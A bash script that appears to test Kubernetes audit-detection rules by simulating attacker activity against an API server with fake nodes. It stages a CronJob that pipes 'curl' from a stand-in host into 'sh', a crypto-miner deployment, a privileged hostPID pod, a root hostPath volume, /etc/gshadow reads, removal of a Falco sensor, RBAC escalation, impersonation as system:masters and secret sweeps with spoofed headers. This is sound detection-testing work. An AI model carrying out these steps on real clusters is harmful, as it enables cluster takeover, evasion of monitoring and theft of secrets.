#!/usr/bin/env bash
# Does by kubectl and curl what the shipped audit rules are about, on a real API server with simulated nodes.
#   audit-actions.sh SERVERS/kubernetes DIR URL CA
# Every secret it makes holds the value s3cr3t-never-logged: the log must not contain it, nor its base64.
set -euo pipefail
script=$1 dir=$2 url=$3 ca=$4
k() { bash "$script" kubectl "$dir" "$@"; }
# curl as a bearer: TOKEN METHOD PATH [BODY]; the answer's code does not matter, an answer does.
api() {
  local token=$1 method=$2 path=$3; shift 3
  curl -sS -o "$dir/answer" --cacert "$ca" -X "$method" ${token:+-H "Authorization: Bearer $token"} -H 'Content-Type: application/json' ${forwarded:+-H "X-Forwarded-For: $forwarded"} \
    ${agent:+-A "$agent"} ${1:+--data "$1"} "$url$path"
}
secret=s3cr3t-never-logged

k create namespace shop
for i in 1 2 3 4 5; do k -n shop create secret generic "db-$i" --from-literal=password="$secret-$i"; done
k -n shop create configmap settings --from-literal=password="$secret"
k -n shop get secret db-1 -o yaml >"$dir/read"; grep -q password "$dir/read"
k -n shop patch secret db-1 -p '{"stringData":{"password":"s3cr3t-never-logged-patched"}}'
k -n shop create serviceaccount app
k -n shop create serviceaccount installer
k create clusterrolebinding installer --clusterrole=cluster-admin --serviceaccount=shop:installer
k -n shop create rolebinding app --clusterrole=view --serviceaccount=shop:app

# Pods that the kubelet (kwok) gives addresses, so that tokens have a home.
for pod in home away; do
  k -n shop run "$pod" --image=registry.k8s.io/pause:3.10 --restart=Never --overrides='{"spec":{"serviceAccountName":"app"}}'
done
k -n shop wait --for=condition=Ready pod/home pod/away --timeout=60s
home=$(k -n shop get pod home -o jsonpath='{.status.podIP}'); away=$(k -n shop get pod away -o jsonpath='{.status.podIP}')

# exec: plain, and for credentials
k -n shop exec home -- true
k -n shop exec home -- sh -c 'cat /etc/gshadow >/dev/null || true'

# a sensor, taken away through the API
k -n shop create deployment falco --image=registry.k8s.io/pause:3.10
k -n shop scale deployment falco --replicas=0
k -n shop delete deployment falco

# a workload that mines, a volume of the node's own disk, a lease of the control plane
k -n shop create deployment digger --image=registry.k8s.io/pause:3.10 -- digger -o stratum+tcp://pool.example:3333
k create -f - <<'Y'
apiVersion: v1
kind: PersistentVolume
metadata: {name: root}
spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], hostPath: {path: /}}
Y
k -n kube-system delete lease kube-scheduler --ignore-not-found
k -n kube-system create -f - <<'Y'
apiVersion: coordination.k8s.io/v1
kind: Lease
metadata: {name: stuck}
Y
k -n kube-system delete lease stuck

# pods and jobs
k -n shop apply -f - <<'Y'
apiVersion: v1
kind: Pod
metadata: {name: breakout}
spec:
  hostPID: true
  containers: [{name: c, image: "registry.k8s.io/pause:3.10", securityContext: {privileged: true}}]
---
apiVersion: batch/v1
kind: CronJob
metadata: {name: update}
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: c, image: busybox, command: [sh, -c, "curl -s http://198.51.100.9/x | sh"]}]
Y

installer=$(k -n shop create token installer)
agent=curl/8.7.1
api "$installer" POST /apis/batch/v1/namespaces/shop/cronjobs '{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"by-curl"},"spec":{"schedule":"0 4 * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"c","image":"busybox"}]}}}}}}'
agent=kubectl/v1.36.0
# refused, then roles: the account first loses a request (another namespace's user), then binds itself and others
rbac=/apis/rbac.authorization.k8s.io/v1
api "$installer" POST $rbac/clusterroles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"all"},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}'
api "$installer" POST $rbac/clusterrolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"app-admin"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"ServiceAccount","name":"app","namespace":"shop"}]}'
api "$installer" POST $rbac/namespaces/shop/rolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"self"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"},"subjects":[{"kind":"ServiceAccount","name":"installer","namespace":"shop"}]}'

# An account that may write role bindings of one namespace and nothing else: it is refused, then writes.
k -n shop create serviceaccount climber
k -n shop create role binder --verb=create --resource=rolebindings.rbac.authorization.k8s.io
k -n shop create role bind-view --verb=bind --resource=roles.rbac.authorization.k8s.io
k -n shop create role nothing --verb=get --resource=configmaps
for role in binder bind-view nothing; do k -n shop create rolebinding "climber-$role" --role="$role" --serviceaccount=shop:climber; done
climber=$(k -n shop create token climber)
for kind in secrets pods nodes configmaps events endpoints services persistentvolumes limitranges resourcequotas; do api "$climber" GET "/api/v1/$kind"; done
api "$climber" POST $rbac/namespaces/shop/rolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"climbed"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"nothing"},"subjects":[{"kind":"ServiceAccount","name":"app","namespace":"shop"}]}'

# its own rights, once and again
review='{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectRulesReview","spec":{"namespace":"shop"}}'
for i in 1 2 3 4 5 6 7 8 9; do api "$climber" POST /apis/authorization.k8s.io/v1/selfsubjectrulesreviews "$review"; done

# secrets: swept by an account, with a plain client, from the pod the token is bound to
bound=$(k -n shop create token app --bound-object-kind Pod --bound-object-name home)
agent=curl/8.7.1 forwarded=$home
for i in 1 2 3 4 5; do api "$bound" GET "/api/v1/namespaces/shop/secrets/db-$i"; done
# the same token from another pod, and from outside
agent=kubectl/v1.36.0 forwarded=$away
for i in 1 2 3 4; do api "$bound" GET /api/v1/namespaces/shop/pods; done
forwarded=198.51.100.7
api "$bound" GET /api/v1/namespaces/shop/pods
# the header rotates
for i in 1 2 3 4 5 6; do forwarded="203.0.113.$i, 198.51.100.7"; api "$bound" GET /api/v1/namespaces/shop/pods; done
forwarded=""

# without credentials, with wrong ones, and where anonymous was let in
for path in /api/v1/secrets /api/v1/pods /api/v1/nodes /apis/apps/v1/deployments /api/v1/namespaces /metrics; do api "" GET "$path"; done
api wrong-token GET /api/v1/pods
k create clusterrole guests --verb=list --resource=services
k create clusterrolebinding guests --clusterrole=guests --user=system:anonymous
api "" GET /api/v1/services

# impersonation
k get pods -n shop --as=system:serviceaccount:kube-system:replicaset-controller --as-group=system:masters

# nodes by hand
k apply -f - <<'Y'
apiVersion: v1
kind: Node
metadata: {name: by-hand}
Y
k label node by-hand tier=vault

# an account by hand, with a tool that it never used
k -n shop create serviceaccount hand
k create clusterrolebinding hand --clusterrole=cluster-admin --serviceaccount=shop:hand
hand=$(k -n shop create token hand)
agent=shop-app/3.1 api "$hand" GET /api/v1/namespaces/shop/configmaps/settings
agent=Wget/1.21.4 api "$hand" GET /api/v1/namespaces/shop/secrets/db-1

# a token of the old kind, as the control plane fills it
agent='kube-controller-manager/v1.36.1 (linux/amd64) kubernetes/a1b2c3d/tokens-controller' api "$hand" PUT /api/v1/namespaces/shop/secrets/db-2 \
  "{\"apiVersion\":\"v1\",\"kind\":\"Secret\",\"metadata\":{\"name\":\"db-2\"},\"stringData\":{\"password\":\"$secret\"}}"
